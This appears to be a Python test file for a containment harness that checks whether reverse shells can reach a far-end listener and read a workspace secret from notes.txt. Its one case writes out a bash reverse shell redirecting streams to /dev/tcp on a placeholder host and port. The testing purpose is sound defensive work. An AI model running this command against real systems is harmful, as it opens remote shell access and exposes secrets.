# SPDX-License-Identifier: Apache-2.0
"""Reverse shells: each connects to the far end, where someone types commands and reads a secret of the workspace."""

import lib_far as far
from lib_case import case


def shell(c, command, port=4444, tls=None, **how):
    word = far.secret(c)
    drive = far.shell_listener(c, port, tls, **how)
    c.call("ls")
    c.attack(command % {"far": c.far, "port": port} + " & " + c.until_done())
    c.begin()
    c.prove(word in drive(), "the far end ran `cat notes.txt` and read the secret")


@case("reverse_shell", seconds=5, quick=True)
def shell_bash(c):
    """bash -i with its streams redirected to /dev/tcp"""
    c.tool("bash")
    shell(c, "./worker -c './worker -i >& /dev/tcp/%(far)s/%(port)d 0>&1'")
